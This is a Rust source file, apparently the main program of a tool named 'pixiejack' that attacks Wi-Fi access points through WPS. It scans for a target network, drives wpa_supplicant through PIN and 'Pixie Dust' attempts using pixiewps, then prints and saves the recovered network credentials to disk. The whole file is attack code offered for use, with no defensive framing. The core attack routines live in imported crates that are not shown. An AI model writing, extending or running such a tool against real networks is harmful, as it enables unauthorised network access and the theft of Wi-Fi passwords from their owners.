use std::io;
use std::process;

use anyhow::{anyhow, Context, Result};
use clap::Parser;
use pixiejack_core::{
    install_interrupt_handler, save_credentials, select_target, Cli, Config, Reporter,
    SessionContext, SessionDriver, SessionOptions, COMPONENT,
};
use pixiejack_netlink::{
    interface_up, require_root, scan, CtrlSocket, PixieRunner, SupplicantProcess,
};
use pixiejack_wps::validate_pin;

fn main() {
    let cli = Cli::parse();
    match run(cli) {
        Ok(code) => process::exit(code),
        Err(err) => {
            emit_error(&err);
            process::exit(1);
        }
    }
}

fn run(cli: Cli) -> Result<i32> {
    require_root("pixiejack")?;

    let config = Config::from_env().with_root(cli.root.clone());
    let mut log_cfg = pixiejack_logging::read_config(config.root());
    if cli.verbose {
        log_cfg = log_cfg.with_level("debug");
    }
    let _logging_guards = pixiejack_logging::init(COMPONENT, config.root(), &log_cfg)
        .context("initializing logging")?;
    if let Err(err) = pixiejack_logging::run_retention(config.root(), COMPONENT, &log_cfg) {
        tracing::warn!("Log retention failed: {:#}", err);
    }
    tracing::info!(
        "pixiejack {} starting on {} (root {})",
        env!("CARGO_PKG_VERSION"),
        cli.interface,
        config.root().display()
    );

    let ctx = SessionContext::shared();
    install_interrupt_handler(ctx.clone())?;

    let mut reporter = Reporter::stdout();

    if let Err(err) = interface_up(&cli.interface) {
        tracing::warn!("{}", err);
    }

    let bssid = match cli.bssid {
        Some(bssid) => bssid,
        None => {
            let stdin = io::stdin();
            let mut input = stdin.lock();
            let scanner = || scan(&config.iw_bin, &cli.interface);
            match select_target(&cli.interface, scanner, &mut input, &mut reporter) {
                Ok(Some(bssid)) => bssid,
                Ok(None) => return Ok(0),
                Err(err) if err.is_recoverable() => {
                    tracing::warn!("Target selection failed: {}", err);
                    return Ok(1);
                }
                Err(err) => return Err(err.into()),
            }
        }
    };

    if let Some(pin) = cli.pin.as_deref() {
        if let Err(err) = validate_pin(pin) {
            reporter.warn(format!("{}, trying it anyway", err));
        }
    }

    reporter.info("Starting wpa_supplicant...");
    let sup_config = config.supplicant(&cli.interface);
    let mut supplicant =
        SupplicantProcess::spawn(&sup_config).context("starting wpa_supplicant")?;
    if let Ok(mut ctx) = ctx.lock() {
        ctx.attach(supplicant.handle());
    }
    supplicant
        .wait_ready(sup_config.startup_timeout, sup_config.poll_interval)
        .context("waiting for wpa_supplicant control socket")?;
    tracing::debug!(
        "wpa_supplicant ready (pid {}, control {})",
        supplicant.pid(),
        supplicant.control_path().display()
    );

    let events = supplicant
        .take_events()
        .ok_or_else(|| anyhow!("wpa_supplicant output already claimed"))?;
    let ctrl = CtrlSocket::connect(&cli.interface, supplicant.control_path(), config.ctrl_timeout)
        .context("connecting to wpa_supplicant")?;
    let recovery = PixieRunner::new(config.pixiewps_bin.clone());

    let mut driver = SessionDriver::new(ctrl, events, recovery, reporter);
    let options = SessionOptions {
        pixie_mode: cli.pixie_dust,
        pixie_force: cli.pixie_force,
    };
    let report = driver.run_attempt(&bssid, cli.pin.as_deref(), options)?;

    let code = match &report.credentials {
        Some(creds) => {
            driver.print_credentials(creds);
            if !cli.no_save {
                let path = config.credentials_path();
                match save_credentials(&path, creds) {
                    Ok(()) => {
                        let shown = driver.reporter().bold(&path.display().to_string());
                        driver.reporter_mut().ok(format!("Saved to: {}", shown));
                    }
                    Err(err) => driver.reporter_mut().error(format!("Save failed: {:#}", err)),
                }
            }
            0
        }
        None => {
            let last = report.attempts.last();
            tracing::info!(
                "No credentials for {} after {} attempt(s), last status {}",
                bssid,
                report.attempts.len(),
                last.map(|a| a.status.to_string()).unwrap_or_default()
            );
            driver.reporter_mut().error("Attack failed.");
            1
        }
    };

    drop(driver);
    if let Ok(mut ctx) = ctx.lock() {
        ctx.detach();
    }
    supplicant.terminate();
    Ok(code)
}

fn emit_error(err: &anyhow::Error) {
    let details: Vec<String> = err.chain().map(|cause| cause.to_string()).collect();
    eprintln!("Error: {}", err);
    for detail in details.iter().skip(1) {
        eprintln!("  -> {}", detail);
    }
}
